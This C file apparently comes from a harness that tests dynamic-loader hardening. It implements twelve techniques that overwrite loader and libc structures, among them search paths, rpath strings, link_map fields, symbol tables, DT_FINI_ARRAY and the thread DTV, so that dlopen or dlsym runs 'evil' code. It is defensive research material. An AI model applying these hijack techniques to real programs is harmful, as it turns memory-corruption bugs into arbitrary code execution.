/* Pointers that decide which library dlopen loads and which function dlsym
 * returns. */

#define _GNU_SOURCE
#include "attack.h"
#include <dlfcn.h>
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void call(void *h, const char *name)
{
	int (*f)(void) = h || h == RTLD_DEFAULT
		? (int (*)(void))dlsym(h, name) : 0;
	if (f) f();
}

static void *open_theirs(void)
{
	void *h = dlopen("libtheirs.so", RTLD_NOW);
	if (!h) _exit(99);
	return h;
}

/* The directory of the program, with more behind it. */
static char *beside(const char *more)
{
	static char s[PATH_MAX+16];
	ssize_t n = readlink("/proc/self/exe", s, PATH_MAX);
	if (n <= 0) _exit(99);
	s[n] = 0;
	strcpy(strrchr(s, '/'), more);
	return s;
}

static void open_optional(void)
{
	void *h = dlopen("liboptional.so", RTLD_NOW);
	if (h) call(h, "run");
}

static void env_path(void)
{
	PUT(libc_variable("env_path", 0, 0), beside("/evil"));
	open_optional();
}

static void sys_path(void)
{
	PUT(libc_variable("sys_path", 0, 0), beside("/evil"));
	open_optional();
}

static int is_string(uintptr_t p, const char *s)
{
	size_t n = strlen(s)+1;
	uintptr_t w;
	return !read_word(p, &w) && !read_word(p+n-1, &w)
		&& !memcmp((void *)p, s, n);
}

/* $ORIGIN, which was expanded when the program's libraries were loaded. */
static void rpath_of_record(void)
{
	uintptr_t *w = (void *)record_of("");
	char *origin = strdup(beside(""));
	size_t i;
	for (i=0; i<RECORD/sizeof *w && !is_string(w[i], origin); i++);
	PUT(i<RECORD/sizeof *w ? w+i : 0, beside("/evil"));
	open_optional();
}

static void error_handler(void)
{
	PUT(libc_variable("error", sizeof(void *), 0), evil);
	open_optional();
}

static void base_of_record(void)
{
	void *h = open_theirs();
	struct link_map *l = h;
	PUT(&l->l_addr, (uintptr_t)evil-symbol_of(l, "run")->st_value);
	call(h, "run");
}

static void symbols_of_record(void)
{
	void *h = open_theirs();
	put_in_record(h, dynamic_address(h, DT_SYMTAB),
		(uintptr_t)symbols_with(h, "run"));
	call(h, "run");
}

/* A list of what the library needs, of which the record has the address. */
static void deps_of_record(void)
{
	void *h = open_theirs();
	struct link_map *l = record_of("libbase"),
		*forged = record_with_function(l, "steady");
	uintptr_t *w = h, v;
	for (size_t i=0; i<RECORD/sizeof *w; i++)
		for (size_t j=0; j<2; j++)
			if (w[i]%sizeof v == 0
			    && !read_word(w[i]+j*sizeof v, &v)
			    && v == (uintptr_t)l
			    && w[i] != (uintptr_t)&l->l_prev->l_next
				-j*sizeof v)
				PUT(w[i]+j*sizeof v, forged);
	call(h, "steady");
}

static void *head_of_list(void)
{
	struct link_map *first = record_of("");
	void **p;
	for (int n=0; (p = libc_variable("head", sizeof *p, n)); n++)
		if (*p == first) return p;
	return 0;
}

static void head(void)
{
	PUT(head_of_list(),
		record_with_function(record_of("libbase"), "steady"));
	call(RTLD_DEFAULT, "steady");
}

static void next_of_record(void)
{
	open_theirs();
	PUT(&record_of("")->l_next,
		record_with_function(record_of("libtheirs"), "run"));
	call(open_theirs(), "run");
}

/* The name by which a loaded library is found, written by way of dladdr. */
static void name_of_object(void)
{
	Dl_info info;
	char *s;
	if (!dladdr(dlsym(RTLD_DEFAULT, "others"), &info)
	    || !(s = strstr(info.dli_fname, "libothers"))) _exit(99);
	if (!getenv("DRY")) memcpy(s, "libtheirs", 9);
	call(open_theirs(), "run");
}

static void fini_in_opened(void)
{
	void *h = dlopen("libopened.so", RTLD_NOW);
	if (!h) _exit(99);
	PUT(dynamic_address(h, DT_FINI_ARRAY), evil);
}

/* A thread's table of where each object's variables are. */
static void dtv(void)
{
	void *h = open_theirs(), *var, *block = evil_table;
	uintptr_t *self = (void *)pthread_self(),
		*copy = calloc(16, sizeof *copy), v;
	/* The first access makes a block of the new object. */
	call(h, "run_hook");
	var = dlsym(h, "hook");
	for (int i=0; i<40; i++) for (int k=1; k<16; k++) {
		if (self[i]%sizeof v || read_word(self[i]+k*sizeof v, &v)
		    || v != (uintptr_t)var) continue;
		for (int j=0; j<=k; j++) read_word(self[i]+j*sizeof v, copy+j);
		copy[k] = (uintptr_t)block;
		PUT(self+i, copy);
		call(h, "run_hook");
		return;
	}
	_exit(ABSENT);
}

const struct attack by_dlopen[] = {
	{ "env_path", env_path },
	{ "sys_path", sys_path },
	{ "rpath_of_record", rpath_of_record },
	{ "error_handler", error_handler },
	{ "base_of_record", base_of_record },
	{ "symbols_of_record", symbols_of_record },
	{ "deps_of_record", deps_of_record },
	{ "head", head },
	{ "next_of_record", next_of_record },
	{ "name_of_object", name_of_object },
	{ "fini_in_opened", fini_in_opened },
	{ "dtv", dtv },
	{ 0, 0 }
};
